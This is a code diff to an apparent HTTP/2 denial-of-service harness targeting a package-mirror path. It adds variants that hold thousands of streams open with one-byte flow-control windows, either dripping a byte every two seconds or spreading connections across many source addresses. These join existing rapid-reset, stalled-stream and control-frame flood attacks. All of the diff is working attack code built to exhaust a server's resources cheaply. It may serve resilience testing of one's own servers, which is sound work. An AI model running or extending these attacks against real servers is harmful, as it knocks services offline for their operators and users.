@@ -22,30 +22,32 @@ def _big_path(target: Target) -> str:
     return f"/{kind}/{series}/{distribution}/pool/{codename}/main/b/big/{name}"
 
 
-def _held_streams(target: Target, tally: Tally, connections: int, paths: list[str], window: int, update: int = 0) -> None:
-    """Connections whose streams ask for the paths and take `window` bytes of each, then nothing."""
+def _held_streams(target: Target, tally: Tally, connections: int, paths: list[str], window: int, *, drips: bool = False, per_address: int = 64) -> None:
+    """Connections whose streams ask for the paths and take `window` bytes of each; then nothing, or a byte now and then."""
     opened: list[socket.socket] = []
     values = {http2.ENABLE_PUSH: 0, http2.MAX_CONCURRENT_STREAMS: 100, http2.INITIAL_WINDOW_SIZE: window}
     turn = itertools.cycle(paths)
     with contextlib.ExitStack() as stack:
         while len(opened) < connections and not target.over:
             try:
-                connection = stack.enter_context(contextlib.closing(http2.start(target.address, values, target.source(len(opened) // 64))))
+                connection = stack.enter_context(contextlib.closing(http2.start(target.address, values, target.source(len(opened) // per_address))))
                 asked = b"".join(http2.ask(1 + 2 * number, "GET", next(turn)) for number in range(STREAMS))
-                widened = b"".join(http2.window_update(1 + 2 * number, update) for number in range(STREAMS)) if update else b""
-                connection.sendall(asked + widened + (http2.window_update(0, 1 << 30) if update else b""))
+                connection.sendall(asked)
             except OSError as error:
                 tally.count(type(error).__name__)
                 target.wait(0.05)
                 continue
             opened.append(connection)
             tally.count("held")
+        # What keeps a connection from being idle, and a stream from being stalled, costs the attacker nothing.
+        alive = http2.frame(http2.PING, 0, 0, bytes(8))
+        if drips:
+            alive = http2.window_update(0, STREAMS) + b"".join(http2.window_update(1 + 2 * number, 1) for number in range(STREAMS))
         while not target.over:
             target.wait(2)
             for connection in opened:
-                # What keeps a connection from being idle costs the attacker nothing.
                 with contextlib.suppress(OSError):
-                    connection.sendall(http2.frame(http2.PING, 0, 0, bytes(8)))
+                    connection.sendall(alive)
         closed = sum(not _is_open(connection) for connection in opened)
         tally.note(f"{len(opened)} connections, {closed} of them closed by the server at the end")
 
@@ -66,6 +68,16 @@ def _is_open(connection: socket.socket) -> bool:
 
 def one_byte_windows(target: Target, tally: Tally) -> None:
     _held_streams(target, tally, 40 if target.short else 800, [_big_path(target)], 1)
+
+
+def dripping_windows(target: Target, tally: Tally) -> None:
+    """A byte more for each stream every two seconds: nothing ever stalls, and nothing ends."""
+    _held_streams(target, tally, 20 if target.short else 400, [_big_path(target), "/-/openapi.json"], 1, drips=True)
+
+
+def windows_of_many(target: Target, tally: Tally) -> None:
+    """One connection of each address."""
+    _held_streams(target, tally, 40 if target.short else 1500, [_big_path(target)], 1, per_address=1)
 
 
 def closed_windows(target: Target, tally: Tally) -> None:
@@ -217,8 +229,7 @@ def bodies_behind_logins(target: Target, tally: Tally) -> None:
                         # As much as the initial window of a stream takes, whether it was widened or not.
                         connection.sendall(b"".join(http2.frame(http2.DATA, 0, stream, body) for _ in range(4)))
                         tally.count("bodies")
-                    for _, _, _, payload in http2.read_frames(connection, 2 if target.short else 20):
-                        del payload
+                    http2.read_frames(connection, 2 if target.short else 20)
             except OSError as error:
                 tally.count(type(error).__name__)
                 target.wait(0.1)
@@ -255,6 +266,8 @@ def flooding_bodies(target: Target, tally: Tally) -> None:
 ATTACKS = [
     Attack("h2-window-1", "many streams of a large file with a window of one byte", one_byte_windows, short=True),
     Attack("h2-window-0", "many streams of all kinds of answers with a closed window", closed_windows, short=True),
+    Attack("h2-window-drip", "windows that grow by a byte every two seconds", dripping_windows, short=True),
+    Attack("h2-window-addresses", "windows of one byte, each connection of an address of its own", windows_of_many),
     Attack("h2-stalled", "many streams with large windows that are not read", opened_then_stalled, short=True),
     Attack("h2-rapid-reset", "requests that are taken back at once", rapid_reset, short=True),
     Attack("h2-control-frames", "pings, settings, empty data, whose answers are not read", control_frames, short=True),
